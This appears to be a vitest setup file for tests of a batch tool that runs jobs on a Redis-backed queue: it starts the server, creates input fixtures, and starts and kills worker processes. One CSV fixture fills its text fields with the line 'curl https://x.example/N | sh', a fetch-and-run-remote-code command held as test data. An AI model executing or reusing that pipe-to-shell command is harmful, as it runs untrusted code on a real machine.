/** A Redis server, a folder with inputs, and workers, for tests of runs on a queue. Importing this file registers the hooks. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { Redis } from "ioredis";
import { afterAll, afterEach, beforeAll, beforeEach } from "vitest";
import { corpus, curlew, start, startNode, type Running } from "../batch/curlew-process.js";
import { folderWith } from "../cli/folder-with.js";
import { bundled } from "../support/bundled.js";
import { RedisServer } from "./redis.js";

export let redis: RedisServer;
/** The folder with the inputs, in which all commands run. */
export let cwd: string;
/** The output of `in.jsonl` without a queue. */
export let whole: string;
let workers: Running[] = [];

/** Returns the content of a file in {@link cwd}. */
export const read = (name: string): string => readFileSync(join(cwd, name), "utf8");

beforeAll(async () => {
  redis = await RedisServer.start("--appendonly", "yes");
  // one line is not valid JSON, so every complete run exits with status 2
  const lines = `${corpus(100)}{broken\n${corpus(8)}`;
  cwd = folderWith({
    "in.jsonl": lines,
    "other.csv": `id,text\n${Array.from({ length: 60 }, (_, i) => `c${i},"run\ncurl https://x.example/${i} | sh"\n`).join("")}`,
  });
  await curlew(["batch", "-q", "in.jsonl", "-o", "whole.jsonl"], { cwd });
  await curlew(["batch", "-q", "other.csv", "-o", "other.jsonl"], { cwd });
  whole = read("whole.jsonl");
});
/** The keys that existed before the test. Redis may have restored keys of an earlier run after it was killed; they expire. */
let earlier: readonly string[] = [];
beforeEach(async () => {
  earlier = [];
  earlier = await remainingKeys();
});
afterEach(async () => {
  for (const { child } of workers) child.kill("SIGKILL");
  await Promise.all(workers.map(({ ended }) => ended));
  workers = [];
});
afterAll(() => redis.remove());

/** Returns the arguments of a run on a queue whose partitions are in the folder `name` and are merged to `name.jsonl`. */
export const queued = (name: string, url = redis.url, input = "in.jsonl"): string[] => {
  const out = ["--queue", url, "--out-dir", name, "--partitions", "12", "-o", `${name}.jsonl`];
  return ["batch", "-q", input, ...out];
};
/** Returns the number of finished partitions in a folder. */
export const parts = (name: string): number =>
  existsSync(join(cwd, name))
    ? readdirSync(join(cwd, name)).filter((file) => /^part-\d+[.]json$/.test(file)).length
    : 0;

/** Starts a worker for the queue. It is killed after the test. */
export function startWorker(...args: string[]): Running {
  return startOn(redis.url, args);
}

/** Starts a worker for the queue at a URL. It is killed after the test. */
export function startOn(
  url: string,
  args: readonly string[],
  env: Record<string, string> = {},
): Running {
  const worker = start(["worker", "--queue", url, "--jobs", "1", "--lock", "2", ...args], {
    cwd,
    env,
  });
  workers.push(worker);
  return worker;
}

/** Returns the keys of partitions and claims in Redis that this test has created. */
export async function remainingKeys(): Promise<string[]> {
  const client = new Redis(redis.url);
  const keys = await client.keys("{curlew}:*");
  client.disconnect();
  return keys.filter((key) => /:output:|:\w{16}-\w{16}-/.test(key) && !earlier.includes(key));
}

/** Returns the messages of a run without messages that depend on the speed of its workers. */
export function withoutTimingMessages(stderr: string): string {
  return stderr.replace(/.*is unreachable.*\n|.*no worker is running.*\n|.*it is split.*\n/g, "");
}

/** Returns a function that returns what a process has written to standard error so far. */
export function textOf({ child }: Running): () => string {
  let text = "";
  child.stderr?.on("data", (chunk: Buffer) => (text += chunk.toString()));
  return () => text;
}

/**
 * Starts a worker that kills its own process for a record with the word ENDING.
 * @param folder a wrong folder, in which the worker looks for the partitions
 */
export function startDyingWorker(folder?: string): Running {
  const script = bundled(resolve("test/queue/dying-worker.ts"));
  const args = [script, redis.url, ...(folder === undefined ? [] : [folder])];
  const worker = startNode(args, { cwd: process.cwd() });
  workers.push(worker);
  return worker;
}
